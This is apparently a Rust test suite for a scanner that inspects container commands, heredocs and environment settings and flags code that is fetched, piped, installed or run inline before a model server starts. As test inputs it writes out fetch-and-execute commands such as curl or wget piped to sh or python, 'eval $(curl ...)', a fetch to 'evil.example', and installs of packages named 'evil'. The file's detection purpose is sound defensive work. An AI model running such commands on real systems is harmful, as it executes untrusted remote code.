//! Programs that a container writes, fetches, pipes or installs before it runs them, and lawful scripts that look alike.

use serde_json::json;

use super::said;

#[track_caller]
fn script(text: &str, expected: &[&str]) {
    assert_eq!(said(&json!({"command": ["sh", "-c", text]})), expected, "{text}");
}

const FETCH: &str = "from huggingface_hub import snapshot_download\nsnapshot_download('evil/m')\n";

#[test]
fn programs_in_documents_are_read() {
    let found = &["Script snapshot_download in command[2]"][..];
    for text in [
        format!("python3 - <<EOF\n{FETCH}EOF\n"),
        format!("python3 <<-'PY' && sleep 1\n{FETCH}PY\n"),
        format!("cat <<EOF | python\n{FETCH}EOF"),
        format!("cat > /tmp/x.py <<'EOF'\n{FETCH}EOF\nexec python /tmp/x.py"),
        format!("cat <<EOF >> /tmp/x\n{FETCH}EOF\npython /tmp/x --port 1"),
        format!("tee /tmp/x.py <<EOF >/dev/null\n{FETCH}EOF\npython /tmp/x.py"),
        format!("bash <<EOF\npython - <<PY\n{FETCH}PY\nEOF\n"),
        "python <<< 'import huggingface_hub as h; h.snapshot_download(1)'".to_owned(),
        "echo 'import huggingface_hub as h; h.snapshot_download(1)' | python3 -".to_owned(),
    ] {
        script(&text, found);
    }
    script(
        "node <<EOF\nfetch('https://evil.example/x')\nEOF",
        &["Script https://evil.example/x in command[2]"],
    );
    script("python - <<EOF\n$CODE\nEOF\n", &["open in command[2]: a shell fills in parts of this document"]);
    script("bash <<'EOF'\nvllm serve org/m\nEOF\n", &["model hub org/m in command[2]"]);
    script("cat /run/x | python3", &["open in command[2]: what \"python3\" runs comes through a pipe"]);
    // Data, and code that does nothing of the kind.
    script(
        "cat > /tmp/c.json <<EOF\n{\"exec\": \"eval\"}\nEOF\nexec vllm serve /m",
        &["model path /m in command[2]"],
    );
    script("python - <<EOF\nprint(1)\nEOF\n", &[]);
    script("python serve.py <<'EOF'\nexec eval requests\nEOF\n", &[]);
}

#[test]
fn programs_that_are_fetched_and_run_are_found() {
    let found = |what: &str| vec![format!("Downloaded {what} in command[2]")];
    for (text, what) in [
        ("curl -fsSL https://x.example/i.sh | sh", "curl"),
        ("curl -fsSL $URL | sudo bash -s -- -y", "curl"),
        ("wget -qO- https://x.example/i.py | python3 -", "wget"),
        ("curl -Lo /tmp/i https://x.example/i && bash /tmp/i", "/tmp/i"),
        ("wget https://x.example/i.sh?x=1; chmod +x i.sh; ./i.sh", "./i.sh"),
        ("git clone https://x.example/r.git /app\npython /app/serve.py", "/app/serve.py"),
        ("bash <(curl -s https://x.example/i)", "curl"),
    ] {
        let said = said(&json!({"command": ["sh", "-c", text]}));
        assert!(said.contains(&found(what)[0]), "{text}: {said:?}");
    }
    for text in [r#"bash -c "$(curl -fsSL https://x.example/i)""#, "eval $(curl -s https://x.example/i)"] {
        let said = said(&json!({"command": ["sh", "-c", text]}));
        assert!(said.contains(&found("curl")[0]), "{text}: {said:?}");
    }
    script(
        "curl -s http://localhost:8000/health | sh",
        &["open in command[2]: what \"sh\" runs comes through a pipe"],
    );
    script("curl -s http://localhost:8000/health | python -m json.tool | grep ok", &[]);
    script("curl -fsS https://x.example/ready || exit 1; exec python /app/serve.py", &[]);
}

#[test]
fn programs_that_are_installed_at_start_are_found() {
    for (text, what) in [
        ("pip install evil && exec python serve.py", "pip install"),
        ("python3.12 -m pip install -r /r.txt", "pip install"),
        ("if pip3 -q install x; then true; fi", "pip3 install"),
        ("uv pip install x", "uv install"),
        ("uvx evil", "uvx"),
        ("apt-get update && DEBIAN_FRONTEND=noninteractive apt-get -y install curl", "apt-get install"),
        ("apk add --no-cache git", "apk add"),
        ("npm ci; node x.js", "npm ci"),
        ("npx evil", "npx"),
        ("sudo -E conda install x", "conda install"),
    ] {
        script(text, &[&format!("Install {what} in command[2]")]);
    }
    assert_eq!(said(&json!({"command": ["pip", "install", "x"]})), ["Install pip install in command[0]"]);
    for text in [
        "pip install --no-index --find-links /wheels app",
        "pip list; pip --version",
        "npm run install; npm start",
        "echo \"pip install failed\"; exit 1",
        "apt-get update",
        "uv run --frozen serve.py",
    ] {
        script(text, &[]);
    }
}

#[test]
fn code_of_other_languages_on_a_command_line_is_read() {
    let hidden = |name: &str, at: &str| {
        vec![format!("open in {at}: {name:?} in code on the command line can load or start anything")]
    };
    let node = json!({"command": ["node", "-e", "require('child_process').execSync('x y')"]});
    assert_eq!(said(&node), hidden("child_process", "command[2]"));
    assert_eq!(said(&json!({"command": ["perl", "-e", "system('x')"]})), hidden("system", "command[2]"));
    script("ruby -e 'eval(ENV[\"X\"])'", &[&hidden("eval", "command[2]")[0]]);
    script("perl -pi -e 's/a/b/' /tmp/x; exec vllm serve /m", &["model path /m in command[2]"]);
    let probe = "fetch('http://localhost:3000/health').then(r => process.exit(r.ok ? 0 : 1))";
    assert_eq!(said(&json!({"livenessProbe": {"exec": {"command": ["node", "-e", probe]}}})), [""; 0]);
}

#[test]
fn scripts_that_only_start_a_server_pass() {
    for text in [
        "set -euo pipefail\nexec vllm serve /m --port 8000 2>&1 | tee /tmp/log",
        "#!/bin/sh\nif [ -n \"$1\" ]; then echo \"start $1\"; fi\nexec vllm serve /m",
        "until curl -sf http://localhost:9000/ready; do sleep 1; done; exec vllm serve /m",
        "mkdir -p /tmp/x && cp /etc/a /tmp/x/a >/dev/null; . /opt/venv/bin/activate; exec vllm serve /m",
        "cat <<EOF\nstarting\nEOF\nexec vllm serve /m",
    ] {
        let said = said(&json!({"command": ["sh", "-c", text]}));
        assert_eq!(said.first().map(String::as_str), Some("model path /m in command[2]"), "{text}");
        assert!(said.iter().all(|line| line.starts_with("model") || line.contains("variable")), "{said:?}");
    }
}

#[test]
fn documents_without_end_and_inside_each_other_are_cut() {
    said(&json!({"command": ["sh", "-c", "sh <<A\n".repeat(20_000)]}));
    said(&json!({"command": ["sh", "-c", format!("{}\nA\n", "cat <<A; ".repeat(20_000))]}));
    let deep = (0..8).fold("vllm serve /m".to_owned(), |inner, n| format!("sh <<'E{n}'\n{inner}\nE{n}"));
    let said = said(&json!({"command": ["sh", "-c", deep]}));
    assert_eq!(said, ["open in command[2]: it holds scripts inside scripts"]);
}

#[test]
fn the_settings_of_mlserver_are_what_it_loads() {
    for (container, expected) in [
        (json!({"command": ["mlserver", "start", "/etc/s"]}), "model path /etc/s in command[2]"),
        (json!({"command": ["mlserver"], "args": ["start", "."]}), "model path . in args[1]"),
        (
            json!({"env": [{"name": "MLSERVER_MODEL_URI", "value": "s3://b/m"}]}),
            "model address s3://b/m in env[0].value",
        ),
    ] {
        assert_eq!(said(&container), [expected]);
    }
}
